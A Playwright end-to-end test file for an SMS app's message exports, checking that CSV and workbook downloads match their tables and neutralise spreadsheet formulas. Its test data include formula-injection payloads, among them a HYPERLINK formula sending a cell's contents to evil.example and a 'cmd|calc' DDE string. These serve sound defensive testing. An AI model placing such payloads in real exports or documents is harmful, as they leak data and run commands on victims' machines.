import type { APIRequestContext } from '@playwright/test';
import type { Pool } from 'pg';
import { formatMsisdn } from '@/lib/sms/msisdn';
import { createMessages, nextMsisdn, type TestAccount } from './accounts';
import { postReply } from './carrier';
import { expect, test, visit } from './fixtures';
import { byteOrderMark, downloadList, downloadWorkbook, formatToday, readRows, shortenMoment } from './lists';

/** What makes a file fall apart, and what a spreadsheet would run. */
const awkwardTexts = [
  '=HYPERLINK("http://evil.example/?"&A1,"Prize")',
  '+27 82 123 4567 is my new number',
  '-1 for the long queue',
  'Stop;=1+1, then | @SUM(A1)',
  '@SUM(1+1)*cmd|calc',
  'semi;colon, comma\ttab | pipe ^ caret "quoted"',
  'two\nlines\r\nand a third',
  'Ngiyabonga 🙏 – tot siens, naïve café',
  '   ',
  '',
  'Stop',
  'STOP!!!',
  'Please stop',
];

function tidy(text: string | undefined): string {
  return (text ?? '').replace(/\s+/g, ' ').trim();
}

/** Takes back what was put before a text so that a spreadsheet does not run it. */
function readHarmless(text: string | undefined): string {
  return (text ?? '').replace(/^'(?=[=+\-@\t\r])/, '').replace(/([,;|\t\r\n] *)'(?=[=+\-@])/g, '$1');
}

/** An account that has sent each of the texts, and got each as a reply. */
async function prepareLists(
  database: Pool,
  request: APIRequestContext,
  account: TestAccount,
  secret: string,
): Promise<void> {
  const messages = [];
  for (const text of awkwardTexts) messages.push({ msisdn: await nextMsisdn(database), text });
  await createMessages(database, account, messages);
  for (const { msisdn, text } of messages) {
    await postReply(request, secret, { id: `reply-${msisdn}`, from: msisdn, to: account.senderNumber, text });
  }
}

test('the file of outgoing messages agrees with its table', async ({
  account,
  database,
  request,
  carrierSecret,
  openAs,
}) => {
  await prepareLists(database, request, account, carrierSecret);
  const page = await openAs(account);
  await visit(page, '/messages');
  const table = page.getByRole('table', { name: 'Outgoing messages' });
  // Three confirmations are on their way.
  await expect(table.getByText('Delivered')).toHaveCount(awkwardTexts.length + 2);

  const { fileName, bytes, rows } = await downloadList(page, 'Semicolon');
  expect(fileName).toBe(`${account.number}-outgoing-${formatToday()}.csv`);
  expect(bytes.subarray(0, 3)).toEqual(byteOrderMark);
  const shown = await readRows(table);
  expect(shown).toHaveLength(awkwardTexts.length + 2);
  expect(
    rows.map((row) => ({
      Number: formatMsisdn(row.Number ?? ''),
      Message: tidy(readHarmless(row.Message)),
      Purpose: row.Purpose,
      Status: row.Status,
      Credits: row.Credits,
      'Sender number': row['Sender number'] ? formatMsisdn(row['Sender number']) : '',
      When: shortenMoment(row.Queued ?? ''),
    })),
  ).toEqual(shown.map((row) => ({ ...row, Message: row.Message?.replace(/^Confirmation/, '') })));
});

test('the file of incoming replies agrees with its table, and no cell of it is a formula @soak', async ({
  account,
  database,
  request,
  carrierSecret,
  openAs,
}) => {
  await prepareLists(database, request, account, carrierSecret);
  const page = await openAs(account);
  await visit(page, '/messages?tab=incoming');
  const { fileName, bytes, rows } = await downloadList(page, 'Tab');
  expect(fileName).toBe(`${account.number}-incoming-${formatToday()}.csv`);
  expect(bytes.subarray(0, 3)).toEqual(byteOrderMark);
  const shown = await readRows(page.getByRole('table', { name: 'Incoming replies' }));
  expect(
    rows.map((row) => ({
      Number: formatMsisdn(row.Number ?? ''),
      Reply: tidy(readHarmless(row.Reply)) || tidy(row.Reply),
      Verdict: row.Verdict,
      Rule: row.Rule,
      'Sender number': row['Sender number'] ? formatMsisdn(row['Sender number']) : '',
      When: shortenMoment(row.Received ?? ''),
    })),
  ).toEqual(shown.map((row) => ({ ...row, Reply: row.Reply?.replace('Empty text', '') })));

  // Newest first; every text as it was written, but for the apostrophe.
  expect(rows.map((row) => readHarmless(row.Reply)).reverse()).toEqual(awkwardTexts);
  for (const row of rows) expect(row.Reply).not.toMatch(/(^|[,;|\t\r\n] *)[=+\-@]/);
});

test('a workbook has every reply as it was written, numbers as text and times as dates @soak', async ({
  account,
  database,
  request,
  carrierSecret,
  openAs,
}) => {
  await prepareLists(database, request, account, carrierSecret);
  const page = await openAs(account);
  await visit(page, '/messages?tab=incoming');
  const { fileName, rows } = await downloadWorkbook(page);
  expect(fileName).toBe(`${account.number}-incoming-${formatToday()}.xlsx`);
  expect(rows[0]).toEqual(['Number', 'Sender number', 'Reply', 'Verdict', 'Rule', 'Received']);
  const texts = rows.slice(1).map(([, , reply]) => tidy((reply as string | null) ?? ''));
  expect(texts.reverse()).toEqual(awkwardTexts.map(tidy));
  for (const [number, sender, , , , received] of rows.slice(1)) {
    expect(number).toMatch(/^27\d{9}$/);
    expect(sender).toBe(account.senderNumber);
    expect(received).toBeInstanceOf(Date);
  }
  // The choice is remembered, and CSV is one press away.
  const again = await downloadList(page, 'Comma');
  expect(again.rows).toHaveLength(awkwardTexts.length);
});

test('a search narrows the list and its file; Clear search leads back', async ({
  account,
  database,
  request,
  carrierSecret,
  openAs,
}) => {
  await prepareLists(database, request, account, carrierSecret);
  const page = await openAs(account);
  await visit(page, '/messages/opt-outs');
  const table = page.getByRole('table', { name: 'Auto Opt-Outs' });
  await expect(table.locator('tbody tr')).toHaveCount(2);
  const number = (await readRows(table))[1]?.Number ?? '';

  await page.getByRole('searchbox').fill(number.replace('+27 ', '0'));
  await expect(table.locator('tbody tr')).toHaveCount(1);
  const narrowed = await downloadList(page, { other: '^' });
  expect(narrowed.rows.map((row) => formatMsisdn(row.Number ?? ''))).toEqual([number]);

  await page.getByRole('searchbox').fill('nobody wrote this');
  await expect(page.getByText('Nothing matches')).toBeVisible();
  await page.getByRole('button', { name: 'Clear search' }).click();
  await expect(table.locator('tbody tr')).toHaveCount(2);
  await expect(page).toHaveURL('/messages/opt-outs');
  const whole = await downloadList(page, 'Pipe');
  expect(whole.rows).toHaveLength(2);
});

test('Older and Newer lead through all of a list, each row once', async ({ account, database, openAs }) => {
  const msisdn = await nextMsisdn(database);
  const texts = Array.from({ length: 120 }, (_, index) => `Message ${index + 1} of 120`);
  await createMessages(
    database,
    account,
    texts.map((text) => ({ msisdn, text })),
  );
  const page = await openAs(account);
  await visit(page, '/messages');
  const table = page.getByRole('table', { name: 'Outgoing messages' });
  const newest = [...texts].reverse();
  const expectPage = async (from: number, to: number) => {
    await expect(table.getByText(newest[from] ?? '', { exact: true })).toBeVisible();
    expect((await readRows(table)).map((row) => row.Message)).toEqual(newest.slice(from, to));
  };
  const older = page.getByRole('link', { name: 'Older' });
  const newer = page.getByRole('link', { name: 'Newer' });

  await expectPage(0, 50);
  await expect(newer).toBeDisabled();
  await older.click();
  await expectPage(50, 100);
  await older.click();
  await expectPage(100, 120);
  await expect(older).toBeDisabled();
  await newer.click();
  await expectPage(50, 100);
  await newer.click();
  await expectPage(0, 50);
  await expect(newer).toBeDisabled();
  await page.goBack();
  await expectPage(50, 100);
});

test('a hidden column stays hidden @soak', async ({ account, database, openAs }) => {
  await createMessages(database, account, [{ msisdn: await nextMsisdn(database), text: 'Good morning' }]);
  const page = await openAs(account);
  await visit(page, '/messages');
  const head = page.getByRole('columnheader', { name: 'Credits' });
  await expect(head).toBeVisible();
  await page.getByRole('button', { name: 'Columns' }).click();
  await page.getByRole('menuitemcheckbox', { name: 'Credits' }).click();
  await expect(head).toHaveCount(0);
  await page.reload();
  await expect(page.getByRole('columnheader', { name: 'Message' })).toBeVisible();
  await expect(head).toHaveCount(0);
});
